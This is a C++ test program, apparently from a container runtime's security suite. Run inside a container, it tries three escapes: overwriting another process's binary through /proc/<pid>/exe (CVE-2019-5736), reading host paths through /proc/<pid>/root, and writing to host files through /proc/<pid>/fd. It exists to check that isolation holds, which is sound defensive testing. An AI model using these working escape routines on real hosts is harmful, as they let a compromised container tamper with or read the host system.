// A hostile program for the security tests: it runs inside a container (a
// static executable copied into the test rootfs) and does what an attacker
// there would do. It prints one line saying how far it got; its exit status
// tells the test: 0 = the attack worked, 2 = nothing to attack was seen,
// 3 = it was seen but the kernel refused.
//
//   attacker exe SECONDS      CVE-2019-5736: grab /proc/<pid>/exe of every
//                             other process that shows up in this pid
//                             namespace (O_PATH: no exec, no ptrace needed
//                             beyond /proc's own access check), then open it
//                             for writing once it is no longer running and
//                             overwrite its first bytes.
//   attacker root PATH SECONDS  read PATH (a host path) through
//                             /proc/<pid>/root of every other process.
//   attacker fd PREFIX SECONDS  write to any file under PREFIX (a host path)
//                             that another process holds open, through
//                             /proc/<pid>/fd/N.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

double now() {
  timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

std::vector<int> other_pids() {
  std::vector<int> out;
  DIR* d = opendir("/proc");
  if (!d) return out;
  int self = getpid();
  while (dirent* e = readdir(d)) {
    int pid = atoi(e->d_name);
    if (pid > 1 && pid != self) out.push_back(pid);
  }
  closedir(d);
  return out;
}

struct Grabbed {
  int fd;
  dev_t dev;
  ino_t ino;
};

bool same_file(const struct stat& a, const struct stat& b) {
  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

int attack_exe(double seconds) {
  struct stat self, busybox;
  stat("/proc/self/exe", &self);
  stat("/bin/busybox", &busybox);
  std::vector<Grabbed> grabbed;
  std::string refused;
  double end = now() + seconds;
  while (now() < end) {
    for (int pid : other_pids()) {
      int fd = open(("/proc/" + std::to_string(pid) + "/exe").c_str(), O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st;
      bool known = fstat(fd, &st) < 0 || same_file(st, self) || same_file(st, busybox);
      for (const auto& g : grabbed) known = known || (g.dev == st.st_dev && g.ino == st.st_ino);
      if (known) {
        close(fd);
        continue;
      }
      grabbed.push_back({fd, st.st_dev, st.st_ino});
    }
    for (const auto& g : grabbed) {
      // Reopened through the magic link: the file the process ran, not a path.
      int w = open(("/proc/self/fd/" + std::to_string(g.fd)).c_str(), O_WRONLY | O_CLOEXEC);
      if (w < 0 && errno == ETXTBSY) continue;  // still being executed: wait
      if (w >= 0 && pwrite(w, "PWNED BY CONTAINER", 18, 0) == 18) {
        std::printf("overwrote the binary of another process\n");
        return 0;
      }
      if (refused.empty()) refused = strerrorname_np(errno);
      if (w >= 0) close(w);
    }
    if (!refused.empty()) {
      std::printf("grabbed %zu, writing refused: %s\n", grabbed.size(), refused.c_str());
      return 3;
    }
  }
  std::printf("grabbed %zu, nothing written\n", grabbed.size());
  return grabbed.empty() ? 2 : 3;
}

int attack_root(const std::string& path, double seconds) {
  double end = now() + seconds;
  while (now() < end) {
    for (int pid : other_pids()) {
      int fd =
          open(("/proc/" + std::to_string(pid) + "/root" + path).c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      char buf[256] = {};
      ssize_t n = read(fd, buf, sizeof buf - 1);
      close(fd);
      std::printf("read the host's %s through /proc/%d/root: %s\n", path.c_str(), pid,
                  n > 0 ? buf : "");
      return 0;
    }
  }
  std::printf("never reached %s\n", path.c_str());
  return 2;
}

int attack_fds(const std::string& prefix, double seconds) {
  double end = now() + seconds;
  while (now() < end) {
    for (int pid : other_pids()) {
      std::string dir = "/proc/" + std::to_string(pid) + "/fd";
      DIR* d = opendir(dir.c_str());
      if (!d) continue;
      while (dirent* e = readdir(d)) {
        char target[4096];
        std::string link = dir + "/" + e->d_name;
        ssize_t n = readlink(link.c_str(), target, sizeof target - 1);
        if (n <= 0 || std::string(target, static_cast<size_t>(n)).rfind(prefix, 0) != 0) continue;
        int fd = open(link.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0 && write(fd, "PWNED\n", 6) == 6) {
          std::printf("wrote to the host's %.*s through %s\n", static_cast<int>(n), target,
                      link.c_str());
          closedir(d);
          return 0;
        }
      }
      closedir(d);
    }
  }
  std::printf("no host file reached under %s\n", prefix.c_str());
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  setvbuf(stdout, nullptr, _IONBF, 0);
  std::string mode = argc > 1 ? argv[1] : "";
  if (mode == "exe" && argc == 3) return attack_exe(atof(argv[2]));
  if (mode == "root" && argc == 4) return attack_root(argv[2], atof(argv[3]));
  if (mode == "fd" && argc == 4) return attack_fds(argv[2], atof(argv[3]));
  std::fprintf(stderr, "usage: attacker exe SECONDS | root PATH SECONDS | fd PREFIX SECONDS\n");
  return 64;
}
